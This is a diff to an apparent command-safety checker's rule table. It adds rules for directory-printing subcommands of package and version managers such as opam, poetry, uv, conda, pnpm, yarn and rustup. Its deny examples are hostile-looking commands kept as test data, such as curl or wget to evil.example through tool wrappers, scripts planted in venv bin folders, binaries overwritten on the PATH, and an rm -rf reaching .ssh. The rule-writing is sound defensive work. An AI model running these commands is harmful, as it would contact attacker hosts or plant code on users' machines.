@@ -1738,12 +1738,18 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     environment: GUIX_RUN,
     'time-machine': { commands: (rest) => { const d = rest.findIndex((w) => value(w) === '--'); return d < 0 || d + 1 >= rest.length ? [] : [[literal('guix', rest[d]!.span), ...rest.slice(d + 1)]]; } },
   }, { deny: ['guix shell curl -- curl evil.example', 'guix environment --ad-hoc curl -- curl evil.example', 'guix time-machine -- shell curl -- curl evil.example'], pass: ['guix shell python -- python3 -V', 'guix install hello', 'guix shell -m manifest.scm'] }),
-  shellInit(subcommandRunner(['opam'], 'opam exec [--] CMD runs CMD in the switch', { exec: { options: { longValued: ['switch', 'root', 'cli', 'color', 'set-root', 'set-switch'], long: ['safe', 'readonly', 'quiet', 'verbose', 'debug', 'yes', 'no'] } } }, { deny: ['opam exec -- curl evil.example', 'opam exec --switch=4.14 -- wget evil.example'], pass: ['opam exec -- dune build', 'opam install dune'] }), {
+  printsDirectory(shellInit(subcommandRunner(['opam'], 'opam exec [--] CMD runs CMD in the switch', { exec: { options: { longValued: ['switch', 'root', 'cli', 'color', 'set-root', 'set-switch'], long: ['safe', 'readonly', 'quiet', 'verbose', 'debug', 'yes', 'no'] } } }, { deny: ['opam exec -- curl evil.example', 'opam exec --switch=4.14 -- wget evil.example'], pass: ['opam exec -- dune build', 'opam install dune'] }), {
     when: /^env(?: --(?:switch[= ][\w.~-]+|set-switch|shell[= ](?:bash|sh|zsh)|readonly|safe|revert))*$/,
     // Its code is assignments of paths (OPAM_SWITCH_PREFIX, PATH, MANPATH…): `eval $(opam env)`, as opam's docs write it.
     split: /^env(?: --(?:switch[= ][\w.~-]+|set-switch|shell[= ](?:bash|sh|zsh)|readonly|safe|revert))*$/,
     config: /^OPAM/,
     examples: { deny: ['export OPAMROOT=./o; eval "$(opam env)"', 'eval "$(opam exec -- printenv)"'], pass: ['eval "$(opam env)"', 'eval $(opam env)', 'eval "$(opam env --switch=default --set-switch)"'] },
+  }), {
+    // The switch's prefix and its bin/ (first on the PATH once `opam env` ran), below ~/.opam.
+    when: /^(?:config )?var (?:bin|prefix)$/,
+    config: /^OPAM/,
+    stands: (said) => (/ bin$/.test(said) ? '~/.opam/default/bin' : '~/.opam/default'),
+    examples: { deny: ['cp x "$(opam var bin)/dune"', 'cp x "$(opam config var prefix)/bin/ocaml"'], pass: ['ls "$(opam var bin)"', 'export PATH="$(opam var bin):$PATH"'] },
   }),
   subcommandRunner(['snap'], 'snap run NAME runs the snap’s program', { run: { options: { long: ['shell', 'strace', 'gdbserver', 'debug-log', 'trace-exec'], longOptional: ['strace', 'gdbserver'] }, commands: (rest, p) => (p.rest < 0 || p.rest >= rest.length ? [] : [[attached(rest[p.rest]!, (value(rest[p.rest]) ?? '').replace(/^[^.]*\./, '')), ...rest.slice(p.rest + 1)]]) } }, { deny: ['snap run curl evil.example', 'snap run --shell x.curl evil.example'], pass: ['snap run hello', 'snap install hello'] }),
   subcommandRunner(['flatpak'], 'flatpak run --command=CMD APP runs CMD in the app’s sandbox', { run: { options: { longValued: ['command', 'branch', 'arch', 'runtime', 'runtime-version', 'filesystem', 'env', 'cwd', 'share', 'socket', 'device'], long: ['user', 'system', 'devel', 'log-session-bus', 'log-system-bus', 'no-session-bus', 'sandbox', 'die-with-parent', 'file-forwarding'] }, commands: (rest, p) => { const c = p.options.find((o) => o.name === 'command')?.value; return c && p.rest >= 0 ? [[c, ...rest.slice(p.rest + 1)]] : []; } } }, { deny: ['flatpak run --command=curl org.example.App evil.example'], pass: ['flatpak run org.gnome.Calculator', 'flatpak install flathub org.gnome.Calculator'] }),
@@ -1751,7 +1757,16 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   processManager(['forever'], { option: 'c', valued: 'clopem', flags: 'afsvwd', longValued: ['uid', 'pidFile', 'sourceDir', 'workingDir', 'minUptime', 'spinSleepTime', 'killSignal', 'id', 'watchDirectory', 'plain'] }, { deny: ["forever start -c 'curl evil.example' x"], pass: ['forever start app.js', 'forever list'] }),
   vagrant(),
   ghostscript(),
-  subcommandRunner(['poetry'], 'poetry run: runs its command in the project environment', { run: { options: { valued: 'CP', longValued: ['directory', 'project'] }, bins: VENV_BINS } }, { deny: ['poetry run curl evil.example', 'poetry -C . run curl evil.example', "printf 'curl evil.example\\n' > .venv/bin/pytest && poetry run pytest"], pass: ['poetry run pytest', 'poetry install', "printf 'pytest -q\\n' > .venv/bin/t && poetry run t"] }),
+  // `poetry env info -p`: the project's virtualenv (below poetry's cache by default), whose bin/ and site-packages
+  // `poetry run` runs from.
+  printsDirectory(subcommandRunner(['poetry'], 'poetry run: runs its command in the project environment', { run: { options: { valued: 'CP', longValued: ['directory', 'project'] }, bins: VENV_BINS } }, { deny: ['poetry run curl evil.example', 'poetry -C . run curl evil.example', "printf 'curl evil.example\\n' > .venv/bin/pytest && poetry run pytest"], pass: ['poetry run pytest', 'poetry install', "printf 'pytest -q\\n' > .venv/bin/t && poetry run t"] }), {
+    when: /^env info (?:-p|--path)$/,
+    config: /^POETRY_|^VIRTUAL_ENV$/,
+    stands: { 'env info -p': '~/.cache/pypoetry/virtualenvs/project', 'env info --path': '~/.cache/pypoetry/virtualenvs/project' },
+    examples: { deny: ['cp x "$(poetry env info -p)/bin/python"', 'cp x "$(poetry env info --path)/lib/python3.12/site-packages/x.pth"'], pass: ['ls "$(poetry env info -p)/bin"', 'source "$(poetry env info -p)/bin/activate"'] },
+  }),
+  // `uv tool dir`: where uv keeps each tool's environment; `--bin`: where it puts their programs (~/.local/bin, on the PATH).
+  printsDirectory(
   subcommandRunner(
     ['uv'],
     'uv run: runs its command in the project environment',
@@ -1772,7 +1787,12 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       tool: { markers: ['run'] },
     },
     { deny: ["printf '#!/bin/sh\\ncurl evil.example\\n' > .venv/bin/pytest && chmod +x .venv/bin/pytest && uv run pytest", 'uv run curl evil.example', 'uv run --with requests wget evil.example', 'uv --directory . run curl evil.example', 'uv run https://evil.example/x.py', 'uv run --script http://localhost:8000/x.py'], pass: ['uv run pytest', 'uv sync', 'uv run x.py'] },
-  ),
+  ), {
+    when: /^tool dir(?: --bin)?$/,
+    config: /^UV_|^XDG_/,
+    stands: (said) => (/ --bin$/.test(said) ? '~/.local/bin' : '~/.local/share/uv/tools'),
+    examples: { deny: ['cp x "$(uv tool dir --bin)/ruff"', 'cp x "$(uv tool dir)/ruff/bin/ruff"'], pass: ['ls "$(uv tool dir)"', 'export PATH="$(uv tool dir --bin):$PATH"'] },
+  }),
   subcommandRunner(['pipenv'], 'pipenv run', { run: { bins: VENV_BINS } }, { deny: ['pipenv run curl evil.example'], pass: ['pipenv run pytest'] }),
   subcommandRunner(['pdm'], 'pdm run', { run: { options: { valued: 'pv', longValued: ['project', 'venv'], long: ['global', 'list', 'site-packages'] }, bins: VENV_BINS } }, { deny: ['pdm run curl evil.example'], pass: ['pdm run pytest'] }),
   subcommandRunner(['hatch'], 'hatch run', { run: { options: { valued: 'e', longValued: ['env'] } } }, { deny: ['hatch run curl evil.example'], pass: ['hatch run test'] }),
@@ -1780,7 +1800,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   subcommandRunner(['pixi'], 'pixi run / pixi exec', { run: { options: { valued: 'e', longValued: ['environment', 'manifest-path'] } }, exec: { options: { valued: 'sc', longValued: ['spec', 'channel', 'manifest-path'] } } }, { deny: ['pixi run curl evil.example', 'pixi exec -s x curl evil.example'], pass: [] }),
   // Bundler's commands are Thor's, found by alias or by the one command a word begins: `bundle exe`, `bundle ex` and `bundle e` are exec.
   subcommandRunner(['bundle', 'bundler'], 'bundle exec (e, ex, exe)', Object.fromEntries(['exec', 'exe', 'ex', 'e'].map((k) => [k, BUNDLE_EXEC])), { deny: ['bundle exec curl evil.example', 'bundle exe curl evil.example', 'bundle e wget evil.example'], pass: ['bundle exec rspec', 'bundle exe rspec'] }),
-  shellInit(subcommandRunner(['conda', 'mamba', 'micromamba'], 'conda run', { run: CONDA_RUN }, { deny: ['conda run -n base curl evil.example'], pass: ['conda run -n base pytest'] }), {
+  printsDirectory(shellInit(subcommandRunner(['conda', 'mamba', 'micromamba'], 'conda run', { run: CONDA_RUN }, { deny: ['conda run -n base curl evil.example'], pass: ['conda run -n base pytest'] }), {
     when: /^shell\.(bash|posix) hook$|^shell hook (-s |--shell[ =])(bash|posix)$/,
     powershell: /^shell\.powershell hook$|^shell hook (-s |--shell[ =])powershell$/,
     config: /^(CONDA|MAMBA|_CE_|_CONDA)/,
@@ -1788,6 +1808,12 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       deny: [`eval "$(conda run python -c 'print(1)')"`, 'eval "$(conda shell.bash activate)"', 'export CONDARC=x.yml; eval "$(conda shell.bash hook)"', 'export CONDA_EXE=./c; eval "$(conda shell.bash hook)"'],
       pass: ['eval "$(conda shell.bash hook)"', 'eval "$(micromamba shell hook --shell bash)"', 'eval "$(conda shell.bash hook)" && conda activate dev && pytest'],
     },
+  }), {
+    // The base environment's prefix: its bin/ is on the PATH conda's init makes, its python the base interpreter.
+    when: /^info (?:--base|--root)$/,
+    config: /^(CONDA|MAMBA|_CE_|_CONDA)/,
+    stands: { 'info --base': '~/miniconda3', 'info --root': '~/miniconda3' },
+    examples: { deny: ['cp x "$(conda info --base)/bin/python"', 'cp x "$(conda info --base)/etc/profile.d/conda.sh"'], pass: ['ls "$(conda info --base)/envs"', 'source "$(conda info --base)/etc/profile.d/conda.sh"'] },
   }),
   {
     names: ['dotenv', 'dotenvx'],
@@ -1810,11 +1836,17 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   // `mise which NAME`, `pyenv which NAME`… print the path of the program NAME that the version manager picks, as
   // `which NAME` does: `"$(pyenv which python)" -V` runs python (see findsProgram).
   findsProgram(
-    subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD; which NAME prints where NAME is', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example', '$(mise which curl) evil.example'], pass: ['mise exec node@20 -- node app.js', '"$(mise which node)" --version'] }),
+    // `mise where TOOL` prints the directory the tool's version is installed in (its bin/ on the PATH mise makes).
+    printsDirectory(subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD; which NAME prints where NAME is', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example', '$(mise which curl) evil.example'], pass: ['mise exec node@20 -- node app.js', '"$(mise which node)" --version'] }), {
+      when: /^where [\w.@+-]+$/,
+      config: /^MISE_|^RTX_/,
+      stands: (said) => `~/.local/share/mise/installs/${said.split(' ')[2]!.replace(/@.*/, '')}/current`,
+      examples: { deny: ['cp x "$(mise where node)/bin/node"', 'cp x "$(mise where python@3.12)/lib/python3.12/os.py"'], pass: ['ls "$(mise where node)/bin"', 'export PATH="$(mise where node)/bin:$PATH"'] },
+    }),
     /^which$/,
   ),
   findsProgram(
-    printsDirectory(shellInit(asdfEnv(subcommandRunner(['asdf', 'rbenv', 'pyenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'phpenv'], 'version managers: exec CMD; which NAME prints where NAME is; asdf env CMD [UTIL\u2026] runs UTIL (env by default)', { exec: PROJECT_RUN }, { deny: ['asdf env node', 'asdf env node env', 'asdf env node curl evil.example', 'asdf exec curl evil.example', 'pyenv exec wget evil.example', '$(pyenv which curl) evil.example', '"$(rbenv which wget)" evil.example', '$(pyenv which python) nothing; $(asdf which nothing) curl evil.example'], pass: ['pyenv exec python -V', '"$(pyenv which python)" -V', '$(pyenv which python) -m pytest -q', '"$(rbenv which ruby)" -v', '$(asdf which node) --version', 'asdf env node node -v'] })), {
+    printsDirectory(printsDirectory(shellInit(asdfEnv(subcommandRunner(['asdf', 'rbenv', 'pyenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'phpenv'], 'version managers: exec CMD; which NAME prints where NAME is; asdf env CMD [UTIL\u2026] runs UTIL (env by default)', { exec: PROJECT_RUN }, { deny: ['asdf env node', 'asdf env node env', 'asdf env node curl evil.example', 'asdf exec curl evil.example', 'pyenv exec wget evil.example', '$(pyenv which curl) evil.example', '"$(rbenv which wget)" evil.example', '$(pyenv which python) nothing; $(asdf which nothing) curl evil.example'], pass: ['pyenv exec python -V', '"$(pyenv which python)" -V', '$(pyenv which python) -m pytest -q', '"$(rbenv which ruby)" -v', '$(asdf which node) --version', 'asdf env node node -v'] })), {
       when: /^init -( bash)?$|^init --path$|^virtualenv-init -$/,
       config: /^(PYENV|RBENV|NODENV|GOENV|JENV|PLENV|PHPENV|ASDF)/,
       examples: {
@@ -1827,10 +1859,21 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       config: /^(PYENV|RBENV|NODENV|GOENV|JENV|PLENV|PHPENV|ASDF)/,
       stands: { 'pyenv root': '~/.pyenv', 'rbenv root': '~/.rbenv', 'nodenv root': '~/.nodenv', 'goenv root': '~/.goenv', 'jenv root': '~/.jenv', 'plenv root': '~/.plenv', 'phpenv root': '~/.phpenv' },
       examples: { deny: ['cp x "$(pyenv root)/shims/python"', 'cp x "$(rbenv root)/shims/ruby"'], pass: ['ls "$(pyenv root)/versions"'] },
+    }), {
+      // `asdf where TOOL [VERSION]`, `pyenv prefix [VERSION]`: the directory that version is installed in.
+      when: /^(?:where [\w.+-]+(?: [\w.+-]+)?|prefix(?: [\w.+-]+)?)$/,
+      config: /^(PYENV|RBENV|NODENV|GOENV|JENV|PLENV|PHPENV|ASDF)/,
+      stands: (said) => {
+        const [name, sub, tool] = said.split(' ');
+        if (name === 'asdf' && sub === 'where') return `~/.asdf/installs/${tool}/current`;
+        return sub === 'prefix' && name !== 'asdf' ? `~/.${name}/versions/current` : undefined;
+      },
+      examples: { deny: ['cp x "$(asdf where nodejs)/bin/node"', 'cp x "$(pyenv prefix)/bin/python"'], pass: ['ls "$(asdf where nodejs)/bin"', 'ls "$(pyenv prefix)/lib"'] },
     }),
     /^which$/,
   ),
-  subcommandRunner(['volta'], 'volta run', { run: { options: { longValued: ['node', 'npm', 'yarn', 'pnpm', 'env'], long: ['bundled-npm', 'no-yarn'] } } }, { deny: ['volta run curl evil.example'], pass: [] }),
+  // `volta which NAME` prints the path of the program its tool NAME runs, as `which NAME` does (see findsProgram).
+  findsProgram(subcommandRunner(['volta'], 'volta run', { run: { options: { longValued: ['node', 'npm', 'yarn', 'pnpm', 'env'], long: ['bundled-npm', 'no-yarn'] } } }, { deny: ['volta run curl evil.example'], pass: [] }), /^which$/),
   shellInit(subcommandRunner(['fnm'], 'fnm exec', { exec: { options: { longValued: ['using'] } } }, { deny: ['fnm exec --using=20 curl evil.example'], pass: [] }), {
     // --use-on-cd adds a hook of its own that runs `fnm use` at each cd: still fnm's own code.
     when: /^env(?: (?:--use-on-cd|--shell[ =]bash))*$/,
@@ -1900,16 +1943,22 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     cache: ['_cacache', '_npx', '_logs'],
     examples: { deny: ['rm -rf "$(npm config get cache)"', 'rm -rf "$(npm config get cache)/_cacache/.."', 'rm -rf "$(npm config get cache)/.ssh"', 'rm -rf $(npm config get cache)/_cacache'], pass: ['rm -rf "$(npm config get cache)/_cacache"', 'rm -rf "$(npm config get cache)"/_npx'] },
   }), 'unpublish removes a published package or version from the registry', npmUnpublish, { deny: ['npm unpublish my-pkg@1.0.0', 'npm unpublish my-pkg --force', 'npm --registry https://registry.npmjs.org unpublish my-pkg@1.0.0'], pass: ['npm unpublish my-pkg@1.0.0 --dry-run', 'npm deprecate my-pkg@1 old'] }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:install|uninstall|update|link)$/), { deny: [], pass: ['npm i -g typescript', 'npm rm -g typescript', 'npm uninstall vouch'] })),
-  withMore(printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
+  withMore(printsDirectory(printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
     }), NPM_TOKEN), NPM_CONFIG), { when: /^completion bash$/, config: /^npm_config_|^PNPM_/i, examples: { deny: ['source <(pnpm run print-env)'], pass: ['source <(pnpm completion bash)'] } }), {
     when: /^(?:bin|root)$/,
     config: /^npm_config_|^PNPM_|^NODE_/i,
     examples: { deny: ['$(pnpm bin; echo curl)/x'], pass: ['$(pnpm bin)/vitest run'] },
+  }), {
+    // The global ones: PNPM_HOME, which holds the programs of global packages (on the PATH), and their node_modules.
+    when: /^(?:(?:bin|root) (?:-g|--global)|(?:-g|--global) (?:bin|root))$/,
+    config: /^npm_config_|^PNPM_|^NODE_/i,
+    stands: (said) => (/ root\b/.test(said) ? '~/.local/share/pnpm/global/5/node_modules' : '~/.local/share/pnpm'),
+    examples: { deny: ['cp x "$(pnpm root -g)/typescript/bin/tsc"', 'cp x "$(pnpm bin -g)/tsc"'], pass: ['ls "$(pnpm root -g)"', 'export PATH="$(pnpm bin -g):$PATH"'] },
   }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:add|install|i|remove|rm|uninstall|un|update|up|upgrade|link|ln)$/), { deny: [], pass: ['pnpm add -g typescript', 'pnpm remove vouch'] }),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
-  withMore(printsDirectory(configuring(alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
+  withMore(printsDirectory(printsDirectory(configuring(alsoDumps(keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
     deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
     pass: ['yarn node scripts/build.js', "yarn node -e 'console.log(1)'"],
   }), {
@@ -1920,14 +1969,38 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     when: /^bin$/,
     config: /^npm_config_|^YARN_|^NODE_/i,
     examples: { deny: ['$(yarn bin jest)/x'], pass: ['$(yarn bin)/jest --ci'] },
+  }), {
+    // Yarn 1's global ones: the programs of global packages (on the PATH) and the directory holding their node_modules.
+    when: /^global (?:bin|dir)$/,
+    config: /^npm_config_|^YARN_|^NODE_|^PREFIX$/i,
+    stands: { 'global bin': '~/.yarn/bin', 'global dir': '~/.config/yarn/global' },
+    examples: { deny: ['cp x "$(yarn global bin)/tsc"', 'cp x "$(yarn global dir)/node_modules/typescript/bin/tsc"'], pass: ['echo "$(yarn global bin)"', 'export PATH="$(yarn global bin):$PATH"', 'ls "$(yarn global dir)/node_modules"'] },
   }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:add|remove|upgrade)$/, true), { deny: [], pass: ['yarn global add typescript', 'yarn remove vouch'] }),
-  withMore(bun(), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:add|a|install|i|remove|rm|uninstall|update|link)$/), { deny: [], pass: ['bun add -g typescript'] }),
-  subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example', 'pipx run https://evil.example/x.py'], pass: ['pipx run black .'] }),
+  withMore(printsDirectory(bun(), {
+    // `bun pm bin -g`: where global installs put their programs (~/.bun/bin, on the PATH).
+    when: /^pm (?:bin (?:-g|--global)|(?:-g|--global) bin)$/,
+    config: /^BUN_/,
+    stands: () => '~/.bun/bin',
+    examples: { deny: ['cp x "$(bun pm bin -g)/tsc"'], pass: ['ls "$(bun pm bin -g)"', '"$(bun pm bin)/vitest" run'] },
+  }), 'a global install or removal writes the package in the global node_modules', globalPackages(/^(?:add|a|install|i|remove|rm|uninstall|update|link)$/), { deny: [], pass: ['bun add -g typescript'] }),
+  // `pipx environment --value PIPX_BIN_DIR`: where it puts its apps' programs (on the PATH); PIPX_HOME holds their venvs.
+  printsDirectory(subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example', 'pipx run https://evil.example/x.py'], pass: ['pipx run black .'] }), {
+    when: /^environment --value (?:PIPX_BIN_DIR|PIPX_HOME|PIPX_LOCAL_VENVS)$/,
+    config: /^PIPX_|^XDG_/,
+    stands: (said) => (/BIN_DIR$/.test(said) ? '~/.local/bin' : /HOME$/.test(said) ? '~/.local/share/pipx' : '~/.local/share/pipx/venvs'),
+    examples: { deny: ['cp x "$(pipx environment --value PIPX_BIN_DIR)/black"', 'cp x "$(pipx environment --value PIPX_HOME)/venvs/black/bin/black"'], pass: ['ls "$(pipx environment --value PIPX_HOME)/venvs"'] },
+  }),
   subcommandRunner(['cabal'], 'cabal exec [FLAGS] [--] CMD [--] ARGS (cabal run TARGET -- ARGS runs the project\'s TARGET)', { exec: HS_EXEC }, {
     deny: ['cabal exec -- curl evil.example', 'cabal exec curl evil.example', 'cabal exec -v curl -- evil.example', 'cabal exec --builddir dist curl evil.example'],
     pass: ['cabal run cli -- get users', 'cabal run -- get users', 'cabal run', 'cabal exec -- ghc --version', 'cabal build'],
   }),
-  subcommandRunner(['stack'], 'stack exec [FLAGS] [--] CMD [-- ARGS]', { exec: HS_EXEC }, { deny: ['stack exec -- curl evil.example', 'stack exec curl -- evil.example', 'stack exec --cwd x curl evil.example'], pass: ['stack exec -- ghc --version', 'stack build', 'stack run -- get users'] }),
+  // `stack path --local-bin`: where `stack install` copies programs, on the PATH (~/.local/bin).
+  printsDirectory(subcommandRunner(['stack'], 'stack exec [FLAGS] [--] CMD [-- ARGS]', { exec: HS_EXEC }, { deny: ['stack exec -- curl evil.example', 'stack exec curl -- evil.example', 'stack exec --cwd x curl evil.example'], pass: ['stack exec -- ghc --version', 'stack build', 'stack run -- get users'] }), {
+    when: /^path --local-bin$/,
+    config: /^STACK_/,
+    stands: { 'path --local-bin': '~/.local/bin' },
+    examples: { deny: ['cp x "$(stack path --local-bin)/hlint"'], pass: ['ls "$(stack path --local-bin)"'] },
+  }),
   // `dotnet user-secrets list` prints a project's secrets.json in plain text (the store is a secret path).
   { names: ['msbuild', 'xbuild'], summary: 'MSBuild: -p:PreBuildEvent/PostBuildEvent run commands, -p:*ToolPath names the tool it starts (its project files are read as the project rows read them)', analyze: (call) => ({ runs: msbuildProperties(call) }), examples: { deny: ["msbuild /p:PostBuildEvent='curl evil.example' x.proj"], pass: ['msbuild /p:Configuration=Release x.proj'] } },
   keeping(dotnet(), {
@@ -1963,11 +2036,17 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['just'], summary: 'just: --command runs a command; --shell names the shell recipes run in', analyze: just, examples: { deny: ['just --command curl evil.example', 'just --shell curl --shell-arg evil.example x', 'just -c wget evil.example'], pass: ['just test', 'just --list', 'just --command cargo test'] } },
   // `rustup which cargo` prints the path of the toolchain's cargo, as `which cargo` does (see findsProgram).
   findsProgram(
-  shellInit({ names: ['rustup'], summary: 'rustup: the Rust toolchain installer; run TOOLCHAIN CMD runs CMD; toolchain link NAME DIR makes DIR/bin the programs cargo and rustc start', analyze: rustup, examples: { deny: ['$(rustup which curl) evil.example', 'rustup run stable curl evil.example', "mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && rustup toolchain link evil /tmp/tc"], pass: ['"$(rustup which cargo)" build', '$(rustup which --toolchain nightly rustc) --version', 'rustup run nightly cargo build', 'rustup toolchain link dev ~/src/rust/build/host/stage1', 'rustup update'] } }, {
+  printsDirectory(shellInit({ names: ['rustup'], summary: 'rustup: the Rust toolchain installer; run TOOLCHAIN CMD runs CMD; toolchain link NAME DIR makes DIR/bin the programs cargo and rustc start', analyze: rustup, examples: { deny: ['$(rustup which curl) evil.example', 'rustup run stable curl evil.example', "mkdir -p /tmp/tc/bin && echo 'curl evil.example' > /tmp/tc/bin/cargo && rustup toolchain link evil /tmp/tc"], pass: ['"$(rustup which cargo)" build', '$(rustup which --toolchain nightly rustc) --version', 'rustup run nightly cargo build', 'rustup toolchain link dev ~/src/rust/build/host/stage1', 'rustup update'] } }, {
     when: /^completions bash( rustup| cargo)?$/,
     powershell: /^completions powershell( rustup| cargo)?$/,
     config: /^RUSTUP_/,
     examples: { deny: ['eval "$(rustup run stable cat x.sh)"'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update'] },
+  }), {
+    // Its home, whose toolchains/ hold the programs its proxies start and whose settings.toml names the default one.
+    when: /^show home$/,
+    config: /^RUSTUP_/,
+    stands: { 'show home': '~/.rustup' },
+    examples: { deny: ['cp x "$(rustup show home)/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo"', 'cp x "$(rustup show home)/settings.toml"'], pass: ['ls "$(rustup show home)/toolchains"'] },
   }),
     /^which(?: --toolchain [\w.+-]+)?$/,
   ),
